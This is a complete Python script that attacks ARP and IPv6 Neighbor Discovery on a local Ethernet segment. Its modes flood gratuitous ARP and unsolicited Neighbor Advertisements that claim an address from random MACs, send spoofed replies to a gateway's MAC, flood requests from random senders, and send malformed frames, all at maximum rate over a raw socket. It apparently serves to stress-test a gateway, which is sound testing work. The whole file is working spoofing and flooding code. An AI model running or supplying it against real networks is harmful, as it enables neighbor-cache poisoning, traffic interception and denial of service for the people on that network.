#!/usr/bin/python3
"""Attack ARP and ND on an Ethernet: hostile_neighbor.py INTERFACE ATTACK COUNT ADDRESS [GATEWAY_MAC]

ATTACK: claim      claim ADDRESS, each time for another MAC (gratuitous ARP, unsolicited NA)
        answer     the same as an answer (ARP reply, solicited NA) to GATEWAY_MAC
        ask        ask for ADDRESS, each time from another sender
        malformed  ARP and ND messages that each break another rule
Shares no code with the gateway. Sends as fast as the kernel accepts frames."""
import ipaddress
import random
import socket
import struct
import sys

interface, attack, count, address = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
gateway = bytes.fromhex(sys.argv[5].replace(":", "")) if len(sys.argv) > 5 else b"\xff" * 6
ip = ipaddress.ip_address(address)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind((interface, 0))
rng = random.Random(5227)
EVERYBODY = b"\xff" * 6


def some_mac():
    return bytes([2, 0x66]) + rng.randbytes(4)


def arp(op, mac, sender, target, to=EVERYBODY, target_mac=bytes(6)):
    return (to + mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, op)
            + mac + sender + target_mac + target).ljust(60, b"\0")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def nd(kind, flags, mac, source, dest, target, to):
    body = struct.pack("!BBHI", kind, 0, 0, flags) + target + bytes([2 if kind == 136 else 1, 1]) + mac
    pseudo = source + dest + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    return to + mac + struct.pack("!HIHBB", 0x86DD, 6 << 28, len(body), 58, 255) + source + dest + body


ALL_NODES = ipaddress.ip_address("ff02::1").packed
GROUP_MAC = bytes.fromhex("333300000001")


def claim(mac):
    if ip.version == 4:
        return arp(1, mac, ip.packed, ip.packed)
    return nd(136, 0x20000000, mac, ip.packed, ALL_NODES, ip.packed, GROUP_MAC)


def answer(mac):
    if ip.version == 4:
        return arp(2, mac, ip.packed, rng.randbytes(4), gateway, gateway)
    return nd(136, 0x60000000, mac, ip.packed, ip.packed, ip.packed, gateway)


def ask(mac):
    if ip.version == 4:
        return arp(1, mac, bytes([10, 66]) + rng.randbytes(2), ip.packed)
    source = ip.packed[:8] + rng.randbytes(8)
    group = ipaddress.ip_address("ff02::1:ff00:0").packed[:13] + ip.packed[13:]
    return nd(135, 0, mac, source, group, ip.packed, b"\x33\x33\xff" + ip.packed[13:])


def malformed(mac):
    frame = bytearray(ask(mac))
    places = (14, 16, 18, 19, 20) if ip.version == 4 else (56, 62, 79)
    frame[rng.choice(places)] ^= 0x40
    return bytes(frame)


make = {"claim": claim, "answer": answer, "ask": ask, "malformed": malformed}[attack]
for _ in range(count):
    wire.send(make(some_mac()))
